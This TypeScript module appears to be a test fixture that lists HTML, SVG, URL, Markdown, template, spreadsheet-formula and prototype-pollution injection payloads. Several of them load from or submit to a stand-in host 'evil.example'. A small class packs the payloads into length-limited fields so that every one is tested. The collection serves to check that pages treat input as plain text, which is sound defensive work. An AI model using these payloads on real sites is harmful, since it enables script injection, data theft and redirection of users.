/** A host that nothing may ask for. */
export const foreignHost = 'evil.example'

const run = 'globalThis.hostileRan=1'
const away = `//${foreignHost}/x`

/** Texts that would run, fetch, open or leave something where a page took them for more than text. */
export const payloads: readonly string[] = [
  // Elements with scripts.
  `<script>${run}</script>`,
  `"><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</title></style><script>${run}</script>`,
  `<script src=${away}></script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<SCRIPT/x>${run}</SCRIPT>`,
  `<script type=module>import('${away}')</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<template><script>${run}</script></template>`,
  // Handlers of events.
  `<img src=x onerror=${run}>`,
  `"><img src=x onerror="${run}">`,
  `<img src=x onerror=alert(1)>`,
  `<img/src=x/onerror=${run}>`,
  `<body onload=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}>`,
  `<marquee onstart=${run}>`,
  `" onmouseover="${run}" x="`,
  `' onfocus='${run}' autofocus='`,
  `<div style="animation-name:x" onanimationstart="${run}">`,
  `<a href="#" onclick="confirm(1)">ok</a>`,
  `<button popovertarget=x onbeforetoggle=${run}>`,
  // SVG and MathML.
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${run}"><text y=9>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x"/></svg>`,
  `<svg><image href="https:${away}"/></svg>`,
  `<svg><style><img src=x onerror=${run}></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  `<math href="javascript:${run}">x</math>`,
  // Addresses.
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `<a href="javascript:${run}">x</a>`,
  `<a href="java&#115;cript:${run}">x</a>`,
  `<a href="data:text/html,<script>${run}</script>">x</a>`,
  `data:text/html;base64,PHNjcmlwdD5oPTE8L3NjcmlwdD4=`,
  `vbscript:msgbox(1)`,
  `https:${away}`,
  // Frames, objects, the document itself.
  `<iframe src="javascript:parent.${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe src="https:${away}"></iframe>`,
  `<object data="https:${away}"></object>`,
  `<embed src="https:${away}">`,
  `<base href="https:${away}/">`,
  `<meta http-equiv="refresh" content="0;url=https:${away}">`,
  `<link rel=stylesheet href="https:${away}.css">`,
  `<link rel=prefetch href="https:${away}">`,
  // Forms.
  `<form action="https:${away}"><button>ok</button></form>`,
  `<form id=x></form><button form=x formaction="javascript:${run}">x</button>`,
  `<input name=innerHTML><form name=body>`,
  // Styles.
  `<style>@import "https:${away}.css";</style>`,
  `<p style="background:url(https:${away}.png)">x</p>`,
  `x;background:url(https:${away}.png);y:`,
  `<style>*{display:none}</style>`,
  // Pictures and links of Markdown.
  `[x](javascript:${run})`,
  `![x](https:${away}.png)`,
  `[x](https:${away} "onmouseover=${run}")`,
  `<javascript:${run}>`,
  // Templates and formulas.
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `<%= ${run} %>`,
  `#{${run}}`,
  `=HYPERLINK("https:${away}","x")`,
  `@SUM(1+1)*cmd|'/c calc'!A0`,
  `+1+cmd|'/c calc'!A0`,
  `-2+3`,
  // Signs that look like others, and names of objects.
  `＜script＞${run}＜/script＞`,
  `<ſcript>${run}</ſcript>`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `__proto__`,
  `constructor[prototype][hostileRan]=1`,
  `]]><script>${run}</script>`,
  `--><script>${run}</script><!--`,
]

/** Fits payloads into texts of limited length, so that every payload is in some text. */
export class Packing {
  readonly used = new Set<string>()
  #next = 0

  /** A text of at most `most` characters; short fields have one payload that fits, cut if none does. */
  text(most: number): string {
    const parts: string[] = []
    let length = 0
    for (let tried = 0; tried < payloads.length; tried++) {
      const payload = payloads[this.#next % payloads.length] ?? ''
      if (length + payload.length + 1 > most) {
        if (parts.length > 0) break
        this.#next++
        continue
      }
      this.#next++
      parts.push(payload)
      this.used.add(payload)
      length += payload.length + 1
    }
    return parts.length > 0 ? parts.join(' ') : '<img src=x onerror=a>'.slice(0, most)
  }

  /** As `text`, and no two are equal where names may be. */
  name(most: number, number: number): string {
    return `${number}${this.text(most - 2)}`.slice(0, most)
  }
}
